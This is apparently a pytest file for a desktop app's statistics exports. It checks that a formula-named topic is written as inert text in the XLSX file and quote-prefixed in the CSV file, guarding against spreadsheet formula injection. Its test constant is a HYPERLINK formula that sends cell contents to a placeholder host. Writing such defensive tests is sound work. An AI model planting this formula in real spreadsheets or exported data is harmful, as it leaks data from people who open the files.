"""A topic an administrator named like a formula reaches the statistics exports as text (issue 10, point 7).

From the administrator's topic list through a logged contact to the shift lead's Export buttons: in the XLSX the
topic is a text cell (no formula anywhere in the workbook), in the CSV it has a quote in front.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest
from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from app.models.enums import Role
from app.services.actor import SessionUser
from app.services.contacts import taxonomy
from app.store.db import Store
from tests.conftest import make_user
from tests.services.aid.test_decisions import admin_of
from tests.services.statistics.test_figures import Logged, log
from tests.ui.statistics.test_statistics_page import open_page, save_as, show

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Abi")'


@pytest.fixture
def formula_topic(store: Store, counsellor: SessionUser) -> None:
    admin = admin_of(store)  # the first administrator, made with the counsellor
    with store.unit_of_work() as uow:
        topic = taxonomy.add_topic(uow, admin, FORMULA, FORMULA, FORMULA)
        uow.commit()
    log(store, counsellor, Logged(local=datetime(2026, 10, 12, 9, 30), topics=[topic.code]))


def test_statistics_xlsx_keeps_a_formula_named_topic_as_text(
    qtbot: QtBot, store: Store, formula_topic: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = open_page(qtbot, store, make_user(store, Role.SHIFT_LEAD, "tiina"))
    show(qtbot, page)
    target = tmp_path / "oktoober.xlsx"
    save_as(monkeypatch, target)

    qtbot.mouseClick(page.xlsx_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not page.busy and target.exists(), timeout=10000)

    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere in the workbook
    book = openpyxl.load_workbook(target)
    (cell,) = [row[0] for row in book["By topic"].iter_rows(min_row=3) if row[0].value == FORMULA]
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_statistics_csv_quotes_a_formula_named_topic(
    qtbot: QtBot, store: Store, formula_topic: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = open_page(qtbot, store, make_user(store, Role.SHIFT_LEAD, "tiina"))
    show(qtbot, page)
    target = tmp_path / "oktoober.zip"
    save_as(monkeypatch, target)

    qtbot.mouseClick(page.csv_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: not page.busy and target.exists(), timeout=10000)

    with zipfile.ZipFile(target) as archive:
        (name,) = [name for name in archive.namelist() if name.endswith("_topic.csv")]
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))
    counts = {row[0]: row[1] for row in rows[1:]}
    assert counts["'" + FORMULA] == "1"
    assert FORMULA not in counts
